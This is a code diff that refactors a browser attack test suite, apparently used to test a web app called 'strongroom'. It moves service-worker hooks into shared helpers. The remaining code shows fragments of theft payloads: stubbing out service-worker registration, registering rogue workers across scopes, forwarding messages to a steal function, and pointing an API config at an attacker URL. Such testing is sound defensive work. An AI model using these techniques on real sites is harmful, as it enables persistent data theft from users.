@@ -1,9 +1,7 @@
 import { setTimeout as delay } from "node:timers/promises";
 import { TRAP } from "../../e2e/trap.js";
 import { attack } from "../attack.js";
-
-/** The browser's original `register`. */
-declare const genuineRegister: ServiceWorkerContainer["register"];
+import { listen, withoutRegister } from "./hooks.js";
 
 export const stoppedWorker = attack({
   name: "contacts a restarted worker before its keeper does",
@@ -119,11 +117,7 @@ export const registerAgain = attack({
   threat: "single-execution theft",
   target: "strongroom",
   leavesWorkers: true,
-  hook() {
-    Object.assign(globalThis, { genuineRegister: ServiceWorkerContainer.prototype.register });
-    // The app must not notice that its worker is gone: it would navigate away for a new session and end the payload.
-    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
-  },
+  hook: withoutRegister,
   async payload(it) {
     const config = encodeURIComponent(JSON.stringify({ api: [{ url: `${it.attackerUrl}/` }] }));
     for (const [url, options] of [
@@ -172,10 +166,7 @@ export const ownScriptAsServiceWorker = attack({
   threat: "persistent theft",
   target: "strongroom",
   leavesWorkers: true,
-  hook(it) {
-    navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
-    navigator.serviceWorker.startMessages();
-  },
+  hook: listen,
   async payload(it) {
     for (const scope of ["/", "/auth/", "/assets/"]) {
       await navigator.serviceWorker
@@ -198,10 +189,7 @@ export const ownScriptAtTheRoot = attack({
   threat: "persistent theft",
   target: "strongroom",
   leavesWorkers: true,
-  hook(it) {
-    navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
-    navigator.serviceWorker.startMessages();
-  },
+  hook: listen,
   // Registers from the page and from every document of the origin that the page can access, including the server's own error
   // pages (RFC 9110 section 15.5.15, RFC 6585 section 5), which lack the host's headers.
   async payload(it) {
@@ -308,11 +296,7 @@ export const secondVault = attack({
   threat: "persistent theft",
   target: "strongroom",
   leavesWorkers: true,
-  hook() {
-    Object.assign(globalThis, { genuineRegister: ServiceWorkerContainer.prototype.register });
-    // The app must not notice that its worker is gone: it would navigate away for a new session and end the payload.
-    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
-  },
+  hook: withoutRegister,
   async payload(it) {
     const send = async (method: string, url: string) => {
       const response = await fetch(url, { method }).catch(() => undefined);
@@ -373,10 +357,7 @@ export const unregisteredVault = attack({
   threat: "persistent theft",
   target: "strongroom",
   leavesWorkers: true,
-  hook() {
-    // The app must not notice that its worker is gone: it would navigate away for a new session and end the payload.
-    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
-  },
+  hook: withoutRegister,
   async payload(it) {
     const own = globalThis as { vaults?: (typeof globalThis)[] };
     if (!own.vaults) {
